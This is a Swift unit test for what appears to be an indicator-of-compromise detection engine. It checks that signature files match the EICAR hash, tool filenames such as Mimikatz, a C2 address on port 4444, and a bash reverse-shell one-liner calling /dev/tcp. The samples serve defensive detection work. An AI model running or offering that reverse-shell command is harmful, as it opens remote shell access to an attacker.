import TestSupport
import XCTest
@testable import IOCEngine

/// The IOC files that ship in Signatures/iocs load cleanly and match samples made here.
final class StarterIOCTests: XCTestCase {
    func testStarterSet() throws {
        let root = BuildProducts.packageRoot + "/Signatures/iocs"
        let set = IOCSet(directories: [root])
        XCTAssertEqual(set.diagnostics, [])
        XCTAssertEqual(set.files.map(\.type), [.c2, .filename, .hash, .keyword])
        // EICAR's digests, computed over the string assembled here.
        let eicarSHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
        guard case .match(let hits) = set.hashes.lookup([eicarSHA256]) else { return XCTFail("EICAR hash not found") }
        XCTAssertEqual(hits.map(\.score), [60])
        XCTAssertEqual(set.filenames.match("C:\\Temp\\Mimikatz.EXE")?.score, 80)
        XCTAssertEqual(set.filenames.match("/home/u/procdump64.exe")?.score, 50)
        XCTAssertNil(set.filenames.match("/opt/SysInternals/procdump.exe"))
        XCTAssertEqual(set.filenames.match("/tmp/.ICE-unix/kworker")?.score, 65)
        XCTAssertEqual(set.c2.match("connect to 203.0.113.66:4444").map(\.score), [90])
        XCTAssertEqual(set.keywords.match("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1").map(\.description), ["Bash reverse shell"])
    }
}
